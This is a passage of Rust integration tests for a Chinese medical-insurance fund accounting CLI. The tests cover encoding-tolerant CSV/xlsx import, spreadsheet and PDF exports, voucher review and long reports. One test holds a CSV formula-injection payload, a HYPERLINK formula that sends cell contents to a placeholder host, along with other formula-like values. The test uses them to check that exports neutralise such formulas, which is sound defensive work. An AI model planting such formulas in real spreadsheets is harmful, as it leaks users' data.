//! The files staff actually have and hand on: CSV saved by Excel in GBK, with a BOM, with CRLF
//! and trailing empty rows; xlsx input with cells named in errors; CSV output with a BOM and
//! Chinese headers; xlsx exports with titles, 合计 and 本年累计; 记账凭证 as PDF.

use super::support::*;
use serde_json::Value;

const WALKTHROUGH: &str = "fixtures/jingmen/walkthrough.csv";

fn walkthrough_text() -> String {
    std::fs::read_to_string(fixture(WALKTHROUGH)).unwrap()
}

/// Every voucher of every book (drafts too), as JSON: what an import produced.
fn all_vouchers(env: &Env) -> Vec<Value> {
    let mut all = Vec::new();
    for book in ["city/employee", "shayang/employee", "city/resident", "shayang/resident"] {
        let out = env.ok(&["--format", "json", "journal", "--book", book, "--all"]);
        let value: Value = serde_json::from_str(&out).unwrap();
        all.extend(value["vouchers"].as_array().unwrap().iter().cloned());
    }
    assert!(all.len() >= 9, "the walkthrough has 9 vouchers: {}", all.len());
    all
}

fn imported(bytes: &[u8], name: &str) -> Vec<Value> {
    let env = Env::jingmen();
    let path = env.path(name);
    std::fs::write(&path, bytes).unwrap();
    let out = env.ok(&["import", path.to_str().unwrap()]);
    assert!(out.starts_with("已导入 9 张凭证（20 行分录），状态：草稿"), "{out}");
    all_vouchers(&env)
}

#[test]
fn gbk_bom_crlf_and_trailing_empty_rows_give_the_same_vouchers() {
    let text = walkthrough_text();
    let expected = imported(text.as_bytes(), "utf8.csv");
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(&text);
    assert!(!unmappable);
    assert_eq!(imported(&gbk, "gbk.csv"), expected, "GBK");
    let bom = [b"\xef\xbb\xbf".as_slice(), text.as_bytes()].concat();
    assert_eq!(imported(&bom, "bom.csv"), expected, "UTF-8 with BOM");
    assert_eq!(imported(text.replace('\n', "\r\n").as_bytes(), "crlf.csv"), expected, "CRLF");
    let excel = format!("{text},,,,,,,,,\r\n,,,,,,,,,\r\n\r\n");
    assert_eq!(imported(excel.as_bytes(), "excel.csv"), expected, "Excel's trailing empty rows");
}

#[test]
fn an_error_names_the_line_the_editor_shows_whatever_the_line_ends() {
    let text = walkthrough_text();
    let mut lines: Vec<&str> = text.lines().collect();
    // Line 5 of the file (the header is line 1).
    let bad = lines[4].replacen("2023-01-03", "2023-13-03", 1);
    lines[4] = &bad;
    for (name, ending) in [("lf.csv", "\n"), ("crlf.csv", "\r\n")] {
        let env = Env::jingmen();
        let before = env.fingerprint();
        let body = lines.join(ending);
        let (gbk, _, _) = encoding_rs::GBK.encode(&body);
        let path = env.path(name);
        std::fs::write(&path, &gbk).unwrap();
        let run = env.run(&["import", path.to_str().unwrap()]);
        assert_eq!(run.code, 1, "{name}");
        assert!(run.stderr.contains("第 5 行：日期 \"2023-13-03\" 不是有效日期"), "{name}: {}", run.stderr);
        assert_eq!(env.fingerprint(), before, "{name}: nothing written");
    }
}

#[test]
fn a_file_in_neither_utf8_nor_gbk_is_refused_with_how_to_save_it() {
    let env = Env::jingmen();
    let before = env.fingerprint();
    let path = env.path("utf16.csv");
    // UTF-16 as Windows Notepad writes "Unicode".
    let mut bytes = vec![0xff, 0xfe];
    for unit in walkthrough_text().encode_utf16() {
        bytes.extend_from_slice(&unit.to_le_bytes());
    }
    std::fs::write(&path, bytes).unwrap();
    let run = env.run(&["import", path.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("既不是 UTF-8 也不是 GBK 编码的文本"), "{}", run.stderr);
    assert!(run.stderr.contains("请另存为 UTF-8 CSV"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before);
    // An old binary .xls, and a file named .xlsx that is not a workbook: named, nothing written.
    let xls = env.path("old.xls");
    std::fs::write(&xls, [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]).unwrap();
    let run = env.run(&["import", xls.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("是旧版 Excel（.xls）文件：请另存为 UTF-8 CSV"), "{}", run.stderr);
    let fake = env.path("fake.xlsx");
    std::fs::write(&fake, walkthrough_text()).unwrap();
    let run = env.run(&["statement", "import", "--source", "bank", fake.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("不是可读取的 xlsx 工作簿"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before);
}

/// The walkthrough as a workbook, amounts as numbers, optionally with one cell replaced, and with
/// `extra` cells written after it.
fn walkthrough_xlsx(path: &std::path::Path, replace: Option<(u32, u16, &str)>, extra: &[(u32, u16, &str)]) {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("凭证").unwrap();
    for (r, line) in walkthrough_text().lines().enumerate() {
        for (c, field) in line.split(',').enumerate() {
            let (r, c) = (r as u32, c as u16);
            let amount_column = (c == 5 || c == 6) && r > 0;
            match replace {
                Some((row, column, text)) if row == r && column == c => sheet.write_string(r, c, text).map(|_| ()),
                _ if amount_column && !field.is_empty() => {
                    sheet.write_number(r, c, field.parse::<f64>().unwrap()).map(|_| ())
                }
                _ => sheet.write_string(r, c, field).map(|_| ()),
            }
            .unwrap();
        }
    }
    for (row, column, text) in extra {
        sheet.write_string(*row, *column, *text).unwrap();
    }
    workbook.save(path).unwrap();
}

#[test]
fn an_xlsx_file_imports_like_the_csv_and_its_errors_name_the_cell() {
    let expected = imported(walkthrough_text().as_bytes(), "utf8.csv");
    let env = Env::jingmen();
    let path = env.path("凭证.xlsx");
    walkthrough_xlsx(&path, None, &[]);
    let out = env.ok(&["import", path.to_str().unwrap()]);
    assert!(out.starts_with("已导入 9 张凭证（20 行分录）"), "{out}");
    assert_eq!(all_vouchers(&env), expected);

    let env = Env::jingmen();
    let before = env.fingerprint();
    let path = env.path("bad.xlsx");
    // Row 4 of the sheet (index 3), column F (index 5): the debit of c2's first line.
    walkthrough_xlsx(&path, Some((3, 5, "12,345.678")), &[]);
    let run = env.run(&["import", path.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("工作表 凭证 的 F4 单元格：金额 \"12,345.678\" 超过两位小数"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before);
}

#[test]
fn csv_output_opens_in_excel_with_chinese_headers_and_table_amounts() {
    let env = Env::jingmen();
    env.ok(&["import", &fixture(WALKTHROUGH), "--post", "--reviewer", REVIEWER]);
    let csv = env.ok(&["--format", "csv", "journal", "--book", "shayang/employee"]);
    assert!(csv.starts_with('\u{feff}'), "a BOM so Excel reads UTF-8");
    let mut lines = csv.trim_start_matches('\u{feff}').lines();
    assert_eq!(lines.next().unwrap(), "日期,凭证号,状态,摘要,科目编码,科目名称,借方金额,贷方金额,结算号");
    let body = csv.lines().skip(1).collect::<Vec<_>>().join("\n");
    assert!(body.contains("已记账"), "{body}");
    assert!(body.contains("\"800,000.00\""), "amounts as in the tables: {body}");
    let raw = env.ok(&["--format", "csv", "--raw-amounts", "journal", "--book", "shayang/employee"]);
    assert!(raw.contains(",800000.00,") && !raw.contains("800,000.00"), "{raw}");
}

/// A summary or settlement number that a spreadsheet would run as a formula — put in a voucher
/// by anyone who can make one — is exported to CSV as text, and kept exactly everywhere else.
#[test]
fn a_formula_in_a_voucher_is_text_in_the_csv_and_exact_elsewhere() {
    let env = Env::jingmen();
    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"点击")"#;
    let file = env.write(
        "formula.csv",
        &format!(
            "voucher,book,date,account,summary,debit,credit,external_id,attachments,ref\n\
             x1,shayang/employee,2023-01-31,5001.02,\"{}\",10.00,,,0,@SUM(1+1)\n\
             x1,shayang/employee,2023-01-31,1003,-2+3 支付,,10.00,,,\n",
            formula.replace('"', "\"\"")
        ),
    );
    env.ok(&["import", &file, "--post", "--reviewer", REVIEWER]);
    let csv = env.ok(&["--format", "csv", "--raw-amounts", "journal", "--book", "shayang/employee"]);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(
        rows[1],
        format!(
            "2023-01-31,记-2023-01-0001,已记账,\"'{}\",5001.02,社会保险待遇支出—住院统筹,10.00,,'@SUM(1+1)",
            formula.replace('"', "\"\"")
        ),
    );
    assert_eq!(rows[2], ",,,'-2+3 支付,1003,支出户存款,,10.00,");
    let json = env.ok(&["--format", "json", "journal", "--book", "shayang/employee"]);
    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
    let lines = &parsed["vouchers"][0]["lines"];
    assert_eq!(lines[0]["summary"], formula, "{json}");
    assert_eq!(lines[0]["ref"], "@SUM(1+1)", "{json}");
    // The spreadsheet holds the text as a string cell, not a formula.
    let out = env.path("序时账.xlsx").display().to_string();
    env.ok(&["--format", "xlsx", "journal", "--book", "shayang/employee", "--output", &out]);
    assert!(sheet_rows(std::path::Path::new(&out)).iter().any(|row| row.iter().any(|cell| cell == formula)));
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let formulas = book.worksheet_formula(&book.sheet_names()[0].clone()).unwrap();
    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "no cell is a formula");
}

fn number(cell: &str) -> i64 {
    // Cells hold doubles: back to 分 by rounding to the nearest 分.
    (cell.parse::<f64>().unwrap() * 100.0).round() as i64
}

#[test]
fn journal_ledger_and_trial_balance_export_as_spreadsheets_staff_hand_on() {
    let env = Env::jingmen();
    env.ok(&["import", &fixture(WALKTHROUGH), "--post", "--reviewer", REVIEWER]);
    let out = |name: &str| env.path(name).display().to_string();
    let journal = out("序时账.xlsx");
    env.ok(&["--format", "xlsx", "journal", "--book", "shayang/employee", "--period", "2023-01", "--output", &journal]);
    let rows = sheet_rows(std::path::Path::new(&journal));
    assert_eq!(rows[0][0], "序时账（shayang/employee）");
    assert_eq!(rows[1][0], "编制单位：沙洋县医疗保障局（职工医保）");
    assert!(rows[1].contains(&"期间：2023年1月".to_string()), "{:?}", rows[1]);
    assert_eq!(rows[1].last().unwrap(), "单位：元");
    assert_eq!(rows[2][..4], ["日期", "凭证号", "状态", "摘要"]);
    let total = rows.iter().find(|r| r[3] == "合计").expect("a 合计 row");
    // shayang/employee in January: 1,500,000 remitted, 800,000 received, 420,000.50 paid out.
    let journal_json: Value = serde_json::from_str(&env.ok(&[
        "--format",
        "json",
        "journal",
        "--book",
        "shayang/employee",
        "--period",
        "2023-01",
    ]))
    .unwrap();
    let debit: i64 = journal_json["vouchers"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|v| v["lines"].as_array().unwrap().iter())
        .filter_map(|l| l["debit"].as_str().filter(|d| !d.is_empty()))
        .map(number)
        .sum();
    assert_eq!(number(&total[6]), debit);
    assert_eq!(number(&total[7]), debit, "a journal's debits equal its credits");

    let ledger = out("明细账.xlsx");
    env.ok(&["--format", "xlsx", "account", "--book", "shayang/employee", "--account", "1003", "--output", &ledger]);
    let rows = sheet_rows(std::path::Path::new(&ledger));
    assert_eq!(rows[0][0], "明细账（shayang/employee 1003 支出户存款）");
    let year = rows.iter().find(|r| r[2] == "本年累计").expect("a 本年累计 row");
    // s3 brings 800,000.00 in; s4 pays 300,000.00 + 120,000.55 out: 379,999.45 left.
    assert_eq!((number(&year[3]), number(&year[4]), number(&year[6])), (80_000_000, 42_000_055, 37_999_945));
    assert!(rows.iter().any(|r| r[2] == "本月合计"));

    let tb = out("科目余额表.xlsx");
    env.ok(&[
        "--format",
        "xlsx",
        "trial-balance",
        "--book",
        "shayang/employee",
        "--period",
        "2023-01",
        "--output",
        &tb,
    ]);
    let rows = sheet_rows(std::path::Path::new(&tb));
    let debit_side = rows.iter().find(|r| r[1] == "借方余额科目合计").expect("labelled totals");
    let credit_side = rows.iter().find(|r| r[1] == "贷方余额科目合计").unwrap();
    assert_eq!(debit_side[0], "合计");
    assert_eq!(number(&debit_side[6]), number(&credit_side[6]), "closing balances tie");

    // A spreadsheet needs --output, and an existing file is kept unless --force.
    let run = env.run(&["--format", "xlsx", "journal", "--book", "shayang/employee"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("需要 --output"), "{}", run.stderr);
    let run = env.run(&["--format", "xlsx", "journal", "--book", "shayang/employee", "--output", &journal]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    // --output without --format xlsx is a usage mistake, not a silently ignored flag.
    let other = out("other.xlsx");
    let run = env.run(&["journal", "--book", "shayang/employee", "--output", &other]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("--output 只与 --format xlsx 一起使用"), "{}", run.stderr);
    assert!(!std::path::Path::new(&other).exists());
}

#[test]
fn vouchers_print_as_pdf_two_to_a_page_with_the_amount_in_capitals() {
    // Printing needs a CJK font and reading the PDF needs poppler-utils: .ci/run installs both;
    // elsewhere the test says it was skipped — except in CI, where it must run.
    let font = std::path::Path::new("/usr/share/fonts/opentype/noto/NotoSerifCJK-Regular.ttc").exists()
        || std::path::Path::new("/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc").exists()
        || std::env::var("FUNDPOOL_FONT").is_ok();
    let poppler = std::process::Command::new("pdftotext").arg("-v").output().is_ok();
    if !(font && poppler) {
        assert!(std::env::var("CI").is_err(), "CI must run the PDF test: install fonts-noto-cjk and poppler-utils");
        println!("skipped: install fonts-noto-cjk and poppler-utils to print and read vouchers");
        return;
    }
    let env = Env::jingmen();
    env.ok(&["import", &fixture(WALKTHROUGH), "--post", "--reviewer", REVIEWER]);
    let pdf = env.path("凭证.pdf");
    let out = env.ok(&[
        "voucher",
        "print",
        "--book",
        "city/employee",
        "--period",
        "2023-01",
        "--output",
        pdf.to_str().unwrap(),
    ]);
    // city/employee has 5 vouchers in January: three pages.
    assert_eq!(out, format!("已打印 5 张凭证，共 3 页：{}\n", pdf.display()));
    let info = std::process::Command::new("pdfinfo").arg(&pdf).output().expect("pdfinfo (poppler-utils)");
    let info = String::from_utf8_lossy(&info.stdout);
    assert!(info.lines().any(|l| l.starts_with("Pages:") && l.ends_with(" 3")), "{info}");
    let text = std::process::Command::new("pdftotext").arg(&pdf).arg("-").output().expect("pdftotext");
    let text = String::from_utf8_lossy(&text.stdout);
    // c2: 12,345,678.90 — 壹仟贰佰叁拾肆万伍仟陆佰柒拾捌元玖角整.
    assert!(text.contains("壹仟贰佰叁拾肆万伍仟陆佰柒拾捌元玖角整"), "{text}");
    assert!(text.contains("记 账 凭 证") || text.contains("记账凭证"), "{text}");
    assert!(text.contains("制单：张会计"), "{text}");
    assert!(text.contains("审核：李审核"), "{text}");
}

#[test]
fn drafts_are_visible_voidable_and_findable() {
    let env = Env::jingmen();
    env.ok(&["import", &fixture(WALKTHROUGH)]);
    // Nothing reviewed yet: post --all says what waits.
    let out = env.ok_as(REVIEWER, &["post", "--all", "--book", "shayang/employee"]);
    assert!(out.contains("另有 4 张草稿尚未审核"), "{out}");
    let journal = env.ok(&["journal", "--book", "shayang/employee", "--all"]);
    assert!(journal.contains("│ 状态 ") || journal.contains("┆ 状态 "), "{journal}");
    assert!(journal.contains("草稿"), "{journal}");
    env.ok(&["voucher", "void", "--book", "shayang/employee", "--number", "记-2023-01-0002", "--reason", "重复录入"]);
    let shown = env.ok(&["voucher", "show", "--book", "shayang/employee", "--number", "记-2023-01-0002"]);
    assert!(shown.contains("状态：作废"), "{shown}");
    assert!(shown.contains("理由：重复录入"), "{shown}");
    assert!(shown.contains("制单") && shown.contains("张会计"), "{shown}");
    let found = env.ok(&["voucher", "find", "--book", "shayang/employee", "--status", "作废"]);
    assert!(found.starts_with("找到 1 张凭证"), "{found}");
    assert!(found.contains("记-2023-01-0002"), "{found}");
    let found =
        env.ok(&["--format", "json", "voucher", "find", "--book", "city/employee", "--amount", "1000000..2000000"]);
    let value: Value = serde_json::from_str(&found).unwrap();
    let numbers: Vec<&str> =
        value["vouchers"].as_array().unwrap().iter().map(|v| v["number"].as_str().unwrap()).collect();
    assert_eq!(numbers, vec!["记-2023-01-0004"], "only c4 (1,500,000.00) is in the range");
    let run = env.run(&["voucher", "find", "--book", "city/employee", "--amount", "9..1"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("下限大于上限"), "{}", run.stderr);
}

/// A sheet is read a row at a time, never sized by its farthest cell: one cell at XFD1048576 — the
/// last cell a sheet has — once made the reader ask for a 1,048,576 × 16,384 grid (512 GiB) and
/// the process abort. Such a cell is refused by name, as is a note typed to the right of a row;
/// empty rows between the rows are skipped as in a CSV.
#[test]
fn a_sheet_is_refused_by_its_stray_cells_not_by_running_out_of_memory() {
    let env = Env::jingmen();
    let before = env.fingerprint();
    let far = env.path("远处有格.xlsx");
    walkthrough_xlsx(&far, None, &[(1_048_575, 16_383, "x")]);
    for args in [vec!["import"], vec!["statement", "import", "--source", "bank"]] {
        let run = env.run(&[args.as_slice(), &[far.to_str().unwrap()]].concat());
        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("工作表 凭证：XFD1048576 单元格有内容，超出了读取的前 256 列（A–IV）"),
            "{args:?}: {}",
            run.stderr
        );
    }
    assert_eq!(env.fingerprint(), before);

    // A note in column M of the sheet's third row; the header has ten columns.
    let noted = env.path("备注.xlsx");
    walkthrough_xlsx(&noted, None, &[(2, 12, "记得复核")]);
    let run = env.run(&["import", noted.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("工作表 凭证 第 3 行：这一行有 13 列，表头有 10 列"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before);

    // Rows far below the vouchers, with nothing between: read as empty lines, and the one with
    // something in it is named by its row.
    let below = env.path("下方.xlsx");
    walkthrough_xlsx(&below, None, &[(500_000, 0, "c9")]);
    let run = env.run(&["import", below.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("工作表 凭证 的 C500001 单元格：日期 \"\" 的写法应为 YYYY-MM-DD"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before);
}

/// An OpenDocument sheet is refused with how to save it: calamine reads ods only whole, as a grid
/// one far cell can make any size.
#[test]
fn an_ods_sheet_is_refused_with_how_to_save_it() {
    let env = Env::jingmen();
    let before = env.fingerprint();
    let mut ods = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    ods.start_file("mimetype", stored).unwrap();
    std::io::Write::write_all(&mut ods, b"application/vnd.oasis.opendocument.spreadsheet").unwrap();
    ods.start_file("META-INF/manifest.xml", stored).unwrap();
    std::io::Write::write_all(
        &mut ods,
        br#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#,
    )
    .unwrap();
    ods.start_file("content.xml", stored).unwrap();
    std::io::Write::write_all(
        &mut ods,
        br#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="Sheet1"><table:table-row><table:table-cell office:value-type="string"><text:p>voucher</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"#,
    )
    .unwrap();
    let path = env.path("凭证.ods");
    std::fs::write(&path, ods.finish().unwrap().into_inner()).unwrap();
    let run = env.run(&["import", path.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.contains("不是 xlsx 工作簿（ods 或 xlsb）：请在 Excel 或 WPS 中另存为 xlsx 或 CSV"),
        "{}",
        run.stderr
    );
    assert_eq!(env.fingerprint(), before);
}

/// A CSV file as a workbook, every cell as text (as a bank's export often is).
fn csv_as_xlsx(csv: &str, path: &std::path::Path) {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, line) in csv.lines().enumerate() {
        for (c, field) in line.split(',').enumerate() {
            sheet.write_string(r as u32, c as u16, field).unwrap();
        }
    }
    workbook.save(path).unwrap();
}

#[test]
fn a_bank_statement_in_xlsx_imports_like_its_csv() {
    let csv_path = fixture("tests/reconcile/bank-2301.csv");
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    let from_csv = Env::jingmen();
    let out = from_csv.ok(&["statement", "import", "--source", "bank", &csv_path]);
    // Five lines, one of them the same line twice (the scenario's duplicate): four kept.
    let expected = "已导入 bank 对账单 4 行；已存在未重复导入 1 行\n";
    assert_eq!(out, expected);
    let from_xlsx = Env::jingmen();
    let path = from_xlsx.path("银行对账单.xlsx");
    csv_as_xlsx(&csv, &path);
    let out = from_xlsx.ok(&["statement", "import", "--source", "bank", path.to_str().unwrap()]);
    assert_eq!(out, expected);
    let rows = |env: &Env| -> Vec<String> {
        let conn = env.raw();
        let mut stmt = conn.prepare("SELECT * FROM statement_line ORDER BY 1").unwrap();
        let count = stmt.column_count();
        stmt.query_map([], |r| {
            Ok((1..count).map(|i| format!("{:?}", r.get_ref(i).unwrap())).collect::<Vec<_>>().join("|"))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect()
    };
    assert_eq!(rows(&from_xlsx), rows(&from_csv), "the same statement lines either way");
    // A bad cell is named by sheet and row.
    let bad = Env::jingmen();
    let before = bad.fingerprint();
    let path = bad.path("bad.xlsx");
    csv_as_xlsx(&csv.replacen("2023-01", "2023-13", 1), &path);
    let run = bad.run(&["statement", "import", "--source", "bank", path.to_str().unwrap()]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("工作表 Sheet1 第 2 行："), "{}", run.stderr);
    assert_eq!(bad.fingerprint(), before);
}

#[test]
fn plans_and_budgets_saved_by_excel_in_gbk_import_too() {
    let env = Env::new_city("fixtures/wuhan");
    let plan = "party,fund,quarter,total,month,category,amount\r\n\
                caidian,employee,2023-04,20000000.00,2023-04,inpatient,15000000.00\r\n\
                caidian,employee,2023-04,20000000.00,2023-04,personal_account,5000000.00\r\n,,,,,,\r\n";
    let (gbk, _, _) = encoding_rs::GBK.encode(plan);
    let path = env.path("计划.csv");
    std::fs::write(&path, &gbk).unwrap();
    let out = env.ok(&["plan", "import", path.to_str().unwrap()]);
    assert!(out.starts_with("已保存 1 份用款计划"), "{out}");
    let budget =
        "\u{feff}year,party,fund,income,expenditure\r\n2023,caidian,employee,100000000.00,90000000.00\r\n,,,,\r\n";
    let path = env.path("预算.csv");
    std::fs::write(&path, budget).unwrap();
    let out = env.ok(&["budget", "import", path.to_str().unwrap()]);
    assert!(out.starts_with("已保存 1 条预算"), "{out}");
}

#[test]
fn voucher_show_lays_out_one_voucher_with_its_history() {
    let env = Env::jingmen();
    env.ok(&["import", &fixture(WALKTHROUGH), "--post", "--reviewer", REVIEWER]);
    let shown = env.ok(&["voucher", "show", "--book", "shayang/employee", "--number", "记-2023-01-0004"]);
    insta::assert_snapshot!("voucher_show_shayang_0004", shown);
}

/// A bulk review or post is read a chunk (1,000 vouchers) at a time, so a problem after the first
/// chunk must still leave nothing written; a long result is summed up per book.
#[test]
fn a_bulk_review_refused_in_its_second_chunk_writes_nothing() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit,external_id\n");
    for i in 0..1200 {
        csv.push_str(&format!("v{i},shayang/employee,2023-01-10,5001.02,待遇,1.00,,BP-{i}\n"));
        csv.push_str(&format!("v{i},shayang/employee,2023-01-10,1003,待遇,,1.00,\n"));
    }
    let path = env.write("bulk.csv", &csv);
    env.ok(&["import", &path]);
    // One more draft, made by the reviewer: it comes last, in the second chunk.
    let own = env.write("own.csv", "voucher,book,date,account,summary,debit,credit\nx,shayang/employee,2023-01-11,5001.02,待遇,2.00,\nx,shayang/employee,2023-01-11,1003,待遇,,2.00\n");
    env.ok_as(REVIEWER, &["import", &own]);
    let before = env.fingerprint();
    let run = env.run_as(REVIEWER, &["review", "--all"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("记-2023-01-1201"), "{}", run.stderr);
    assert_eq!(env.fingerprint(), before, "the first chunk's reviews were rolled back");
    // Without the reviewer's own draft the selection goes through, and the result is summed up.
    env.ok_as(
        REVIEWER,
        &["voucher", "void", "--book", "shayang/employee", "--number", "记-2023-01-1201", "--reason", "自制自审"],
    );
    let out = env.ok_as(REVIEWER, &["review", "--all"]);
    assert!(out.starts_with("共 1200 张凭证（按账簿汇总"), "{out}");
    assert!(out.contains("shayang/employee") && out.contains("1,200.00"), "{out}");
    let out = env.ok_as("王记账", &["--format", "json", "post", "--all"]);
    let value: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(value["posted"].as_array().unwrap().len(), 1200);
    assert_eq!(value["posted"][1199]["number"], "记-2023-01-1200", "in number order");
    env.ok(&["verify"]);
}

/// A journal longer than a table is laid out whole is written a chunk at a time (and JSON and CSV
/// a voucher at a time): the same rows, one header, one 合计, columns lined up throughout.
#[test]
fn a_long_journal_is_written_in_pieces_that_make_one_report() {
    let env = Env::jingmen();
    let mut csv = String::from("voucher,book,date,account,summary,debit,credit\n");
    let count = 2_600; // two lines each: more rows than a table is laid out whole
    let mut total_fen = 0i64;
    for i in 0..count {
        let fen = 10_000 + i as i64 * 7;
        total_fen += fen;
        let amount = format!("{}.{:02}", fen / 100, fen % 100);
        let summary = if i % 500 == 0 {
            "拨付沙洋县医疗保障局本月统筹基金支出户款项".to_string()
        } else {
            format!("第{i}笔")
        };
        csv.push_str(&format!("L{i},shayang/employee,2023-01-10,5001.02,{summary},{amount},\n"));
        csv.push_str(&format!("L{i},shayang/employee,2023-01-10,1003,{summary},,{amount}\n"));
    }
    env.ok(&["import", &env.write("long.csv", &csv), "--post", "--reviewer", REVIEWER]);
    let args = ["journal", "--book", "shayang/employee", "--period", "2023-01"];
    let table = env.ok(&args);
    let lines: Vec<&str> = table.lines().collect();
    // Title, top border, header, rule, 2 rows a voucher, 合计, bottom border.
    assert_eq!(lines.len(), 4 + 2 * count + 2, "{}", &table[..300]);
    assert_eq!(lines.iter().filter(|l| l.contains("凭证号")).count(), 1);
    let total = format!("{}.{:02}", total_fen / 100, total_fen % 100);
    let (yuan, fen) = total.split_once('.').unwrap();
    let digits: Vec<char> = yuan.chars().collect();
    let mut total_grouped = String::new();
    for (i, digit) in digits.iter().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            total_grouped.push(',');
        }
        total_grouped.push(*digit);
    }
    let total_grouped = format!("{total_grouped}.{fen}");
    let last_row = lines[lines.len() - 2];
    assert!(last_row.contains("合计") && last_row.contains(&format!("{count} 张凭证")), "{last_row}");
    assert!(last_row.contains(&total_grouped), "{last_row} lacks {total_grouped}");
    let width = |line: &str| unicode_width::UnicodeWidthStr::width(line);
    let widths: std::collections::BTreeSet<usize> = lines[1..].iter().map(|l| width(l)).collect();
    assert_eq!(widths.len(), 1, "every line of the table is as wide: {widths:?}");
    let json: Value =
        serde_json::from_str(&env.ok(&["--format", "json", "journal", "--book", "shayang/employee"])).unwrap();
    assert_eq!(json["vouchers"].as_array().unwrap().len(), count);
    let csv_out = env.ok(&["--format", "csv", "--raw-amounts", "journal", "--book", "shayang/employee"]);
    assert_eq!(csv_out.lines().count(), 1 + 2 * count + 1);
    assert!(
        csv_out.lines().last().unwrap().contains(&format!("{total},{total}")),
        "{}",
        csv_out.lines().last().unwrap()
    );
    // In a narrow terminal the header wraps onto more lines; it still comes once, not again
    // with every chunk of rows.
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_fundpool"))
        .current_dir(env.dir.path())
        .env("FUNDPOOL_NOW", NOW)
        .env("COLUMNS", "72")
        .args(["--db", env.db().to_str().unwrap()])
        .args(args)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let narrow = String::from_utf8(output.stdout).unwrap();
    let narrow_lines: Vec<&str> = narrow.lines().collect();
    let rule = narrow_lines.iter().position(|l| l.starts_with('╞')).expect("the header's rule");
    assert!(rule > 3, "the header wrapped onto more than one line:\n{}", narrow_lines[..8].join("\n"));
    assert_eq!(narrow_lines.iter().filter(|l| l.starts_with('╞')).count(), 1, "one header rule");
    for header_line in &narrow_lines[2..rule] {
        assert_eq!(narrow_lines.iter().filter(|l| l == &header_line).count(), 1, "{header_line} comes once");
    }
    // Too narrow for the table, its text columns keep two characters' room rather than let one
    // overflow its cell: every line as wide as the others.
    let narrow_widths: std::collections::BTreeSet<usize> = narrow_lines[1..].iter().map(|l| width(l)).collect();
    assert_eq!(narrow_widths.len(), 1, "{}", narrow_lines[..12].join("\n"));
    // A reader that stops early (`| head`) ends the output quietly.
    reader_may_stop_early(&env, &["journal", "--book", "shayang/employee"]);
}

/// Each format of a long report, read 100 bytes and closed: the command ends quietly, exit 0.
fn reader_may_stop_early(env: &Env, args: &[&str]) {
    for format in ["json", "csv", "table"] {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_fundpool"))
            .args(["--db", &env.db().display().to_string(), "--format", format])
            .args(args)
            .env("FUNDPOOL_OPERATOR", MAKER)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = [0u8; 100];
        std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut first).unwrap();
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{format}: {}", String::from_utf8_lossy(&output.stderr));
        assert!(output.stderr.is_empty(), "{format}: {}", String::from_utf8_lossy(&output.stderr));
    }
}

/// A 明细账 longer than a table is laid out whole is read an entry at a time: the table in
